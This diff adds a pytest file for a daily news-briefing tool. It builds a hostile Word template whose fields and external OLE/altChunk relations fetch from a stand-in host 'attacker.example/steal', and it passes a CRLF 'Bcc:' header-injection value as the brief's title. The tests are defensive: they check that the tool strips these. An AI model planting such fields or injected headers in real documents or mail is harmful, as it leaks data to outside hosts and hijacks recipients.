@@ -1,0 +1,197 @@
+"""Issue 12, templates and daily runs: active/external template parts, dates out of range, final
+earlier briefs, damaged archives, a killed run's articles, read-only out/, CR/LF in the title."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import sqlite3
+import zipfile
+from pathlib import Path
+
+import pytest
+from docx import Document
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
+
+from _privileges import run_cli_without_file_override
+from briefing import load_settings
+from briefing.archive import Archive
+from briefing.cli import main
+from briefing.daily import collect_inbox, run_daily
+from briefing.errors import ArchiveError
+from briefing.render import default_template_path
+from conftest import CNN_SEED, REUTERS_SEED
+
+BAIT = "http://attacker.example/steal"
+
+
+def _hostile_template(tmp_path: Path) -> Path:
+    doc = Document(str(default_template_path()))
+    header = doc.sections[0].header
+    p = header.paragraphs[0] if header.paragraphs else header.add_paragraph()
+    run = p.add_run()
+    for kind, text in (("begin", None), (None, f' INCLUDETEXT "{BAIT}/secret.docx" '), ("separate", None),
+                       (None, None), ("end", None)):
+        if kind:
+            el = OxmlElement("w:fldChar")
+            el.set(qn("w:fldCharType"), kind)
+        elif text:
+            el = OxmlElement("w:instrText")
+            el.text = text
+        else:
+            el = OxmlElement("w:t")
+            el.text = "x"
+        run._r.append(el)
+    simple = OxmlElement("w:fldSimple")
+    simple.set(qn("w:instr"), f' INCLUDEPICTURE "{BAIT}/p.png" \\d ')
+    p._p.append(simple)
+    rid = header.part.relate_to(BAIT + "/linked.png", RT.IMAGE, is_external=True)
+    blip = OxmlElement("w:hyperlink")
+    blip.set(qn("r:id"), rid)
+    p._p.append(blip)
+    doc.part.relate_to(BAIT + "/chunk.html", RT.A_F_CHUNK, is_external=True)
+    doc.part.relate_to(BAIT + "/ole.bin", RT.OLE_OBJECT, is_external=True)
+    chunk = OxmlElement("w:altChunk")
+    doc.element.body.append(chunk)
+    path = tmp_path / "hostile.docx"
+    doc.save(str(path))
+    return path
+
+
+def test_template_external_and_active_parts_are_stripped(tmp_path):
+    template = _hostile_template(tmp_path)
+    with zipfile.ZipFile(template) as z:  # the bait really is in the template
+        assert any(BAIT.encode() in z.read(n) for n in z.namelist())
+    out = tmp_path / "b.docx"
+    assert main(["build", str(REUTERS_SEED), "-o", str(out), "--template", str(template), "--summarizer", "lead"]) == 0
+    with zipfile.ZipFile(out) as z:
+        blob = b"".join(z.read(n) for n in z.namelist())
+    for bad in (BAIT.encode(), b"INCLUDETEXT", b"INCLUDEPICTURE", b"altChunk", b"oleObject", b"aFChunk"):
+        assert bad not in blob, bad
+    Document(str(out))  # still a valid package
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1899-12-31"])
+def test_dates_out_of_range_are_one_line(day, tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "in").mkdir()
+    assert main(["daily", "--date", day, "--inbox", str(tmp_path / "in")]) != 0
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "out of range" in err[0]
+
+
+def _settings(tmp_path, inbox):
+    return load_settings(archive=tmp_path / "a.sqlite3", briefs_dir=tmp_path / "briefs", inbox=inbox)
+
+
+def test_earlier_briefs_are_final(tmp_path):
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    shutil.copy(REUTERS_SEED, inbox)
+    settings = _settings(tmp_path, inbox)
+    _, day1 = run_daily("2026-11-20", settings)
+    _, day2 = run_daily("2026-11-21", settings)
+    before = day1.read_bytes()
+    shutil.copy(CNN_SEED, inbox)
+    mtime = day1.stat().st_mtime_ns
+    again, path = run_daily("2026-11-20", settings)  # re-running an earlier day changes nothing
+    assert path == day1 and day1.read_bytes() == before and day1.stat().st_mtime_ns == mtime
+    assert len(again.sources) == 1
+    with Archive(settings.archive) as archive:  # nothing was collected into the past
+        assert archive.count("articles") == 1
+    brief3, _ = run_daily("2026-11-22", settings)
+    assert len(brief3.sources) == 1
+
+
+@pytest.mark.parametrize("damage", ["drop briefs", "bad json", "drop brief_points"])
+def test_damaged_archive_with_the_right_version_is_one_line(damage, tmp_path, capsys, monkeypatch):
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    shutil.copy(REUTERS_SEED, inbox)
+    settings = _settings(tmp_path, inbox)
+    run_daily("2026-11-20", settings)
+    conn = sqlite3.connect(settings.archive)
+    if damage == "bad json":
+        conn.execute("UPDATE articles SET data = '{not json'")
+    else:
+        conn.execute(f"DROP TABLE {damage.split()[1]}")
+    conn.commit()
+    conn.close()
+    with pytest.raises(ArchiveError, match="damaged"):
+        run_daily("2026-11-20", settings)
+
+
+def test_articles_stored_by_a_killed_run_are_briefed_next_time(tmp_path):
+    import datetime as dt
+
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    shutil.copy(REUTERS_SEED, inbox)
+    settings = _settings(tmp_path, inbox)
+    with Archive(settings.archive) as archive:  # the run of the 20th stored it, then was killed
+        assert collect_inbox(inbox, archive, dt.date(2026, 11, 20), max_bytes=10**7) == 1
+    brief, _ = run_daily("2026-11-21", settings)
+    assert len(brief.sources) == 1  # not lost
+    brief2, _ = run_daily("2026-11-22", settings)
+    assert len(brief2.sources) == 0  # and briefed once
+
+
+def test_read_only_out_is_one_line(tmp_path):
+    (tmp_path / "in").mkdir()
+    shutil.copy(REUTERS_SEED, tmp_path / "in")
+    (tmp_path / "out").mkdir()
+    os.chmod(tmp_path / "out", 0o555)
+    try:
+        r = run_cli_without_file_override("daily", "--date", "2026-11-20", "--inbox", str(tmp_path / "in"),
+                                          cwd=tmp_path)
+    finally:
+        os.chmod(tmp_path / "out", 0o755)
+    lines = r.stderr.strip().splitlines()
+    assert r.returncode == 1 and len(lines) == 1 and "Permission denied" in lines[0], r.stderr
+
+
+def test_cr_lf_in_the_title_does_not_break_e_mail(tmp_path, monkeypatch):
+
+    sent = []
+
+    class FakeSMTP:
+        def __init__(self, *a, **kw):
+            pass
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *a):
+            return False
+
+        def starttls(self, *a, **kw):
+            pass
+
+        def login(self, *a, **kw):
+            pass
+
+        def ehlo(self, *a, **kw):
+            pass
+
+        def send_message(self, msg, *a, **kw):
+            sent.append(msg)
+            return {}
+
+        def quit(self):
+            pass
+
+    import smtplib
+
+    monkeypatch.setattr(smtplib, "SMTP", FakeSMTP)
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    shutil.copy(REUTERS_SEED, inbox)
+    settings = load_settings(archive=tmp_path / "a.sqlite3", briefs_dir=tmp_path / "briefs", inbox=inbox,
+                             title="Brief\r\nBcc: victim@example.org", smtp_host="mail.example",
+                             smtp_sender="b@example.org", smtp_starttls=False)
+    run_daily("2026-11-20", settings, email_to="desk@example.org")
+    assert len(sent) == 1
+    assert "\n" not in sent[0]["Subject"] and "\r" not in sent[0]["Subject"]
+    assert sent[0]["Bcc"] is None
